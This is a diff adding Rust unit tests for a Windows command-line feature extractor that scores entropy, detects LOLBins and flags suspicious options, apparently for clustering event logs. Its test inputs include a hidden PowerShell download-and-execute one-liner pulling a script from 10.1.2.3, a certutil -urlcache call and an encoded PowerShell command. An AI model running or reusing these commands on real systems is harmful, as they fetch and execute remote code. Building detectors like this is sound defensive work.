@@ -0,0 +1,72 @@
+use evtx_clustering::features::{CommandFeatures, executable_name, get_feature_dataframe, get_feature_matrix, shannon_entropy};
+
+
+#[test]
+fn test_shannon_entropy() {
+    assert_eq!(shannon_entropy(""), 0.0);
+    assert_eq!(shannon_entropy("aaaa"), 0.0);
+    assert_eq!(shannon_entropy("abab"), 1.0);
+}
+
+
+#[test]
+fn test_executable_name() {
+    assert_eq!(executable_name(r#""C:\Windows\System32\cmd.exe" /c whoami"#), "cmd.exe");
+    assert_eq!(executable_name(r"C:\Windows\System32\certutil.exe -urlcache -f"), "certutil.exe");
+    assert_eq!(executable_name("powershell -nop"), "powershell.exe");
+
+    // Image paths with spaces, quoted or not
+    assert_eq!(executable_name(r#""C:\Program Files\foo\bar.exe" -x"#), "bar.exe");
+    assert_eq!(executable_name(r"C:\Program Files\foo\bar.exe -x"), "bar.exe");
+    assert_eq!(executable_name(r"C:\Program Files (x86)\Foo App\run.cmd C:\in.txt"), "run.cmd");
+    // The scan stops at options so an argument is not taken for the image
+    assert_eq!(executable_name(r"C:\Program Files\foo\bar -i C:\a.exe"), "program.exe");
+    assert_eq!(executable_name("cmd foo.bat"), "cmd.exe");
+}
+
+
+#[test]
+fn test_command_features() {
+    let features = CommandFeatures::from_command(
+        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')\""
+    );
+    assert!(features.is_lolbin);
+    assert_eq!(features.url_count, 1);
+    assert_eq!(features.ip_count, 1);
+    assert!(features.suspicious_flags.contains(&String::from("nop_hidden")));
+    assert!(features.suspicious_flags.contains(&String::from("downloadstring")));
+
+    let features = CommandFeatures::from_command("notepad.exe test.txt");
+    assert!(!features.is_lolbin);
+    assert!(features.suspicious_flags.is_empty());
+    assert_eq!(features.base64_substrings, 0);
+}
+
+
+#[test]
+fn test_non_alnum_ratio() {
+    // Caret escapes raise the ratio, whitespace between arguments does not
+    let plain = CommandFeatures::from_command("cmd /c dir");
+    let escaped = CommandFeatures::from_command("c^m^d /c d^i^r");
+    assert!((plain.non_alnum_ratio - 1.0 / 8.0).abs() < 1e-9);
+    assert!((escaped.non_alnum_ratio - 5.0 / 12.0).abs() < 1e-9);
+    let spaced = CommandFeatures::from_command("cmd   /c    dir");
+    assert_eq!(spaced.non_alnum_ratio, plain.non_alnum_ratio);
+    assert_eq!(CommandFeatures::from_command("   ").non_alnum_ratio, 0.0);
+}
+
+
+#[test]
+fn test_feature_dataframe() {
+    let values = vec![
+        String::from("cmd.exe /c whoami"),
+        String::from("powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
+    ];
+    let df = get_feature_dataframe(&values).unwrap();
+    assert_eq!(df.height(), 2);
+    assert!(df.column("entropy").is_ok());
+    assert!(df.column("is_lolbin").is_ok());
+
+    let matrix = get_feature_matrix(&values);
+    assert_eq!(matrix.shape(), &[2, CommandFeatures::VECTOR_LEN]);
+}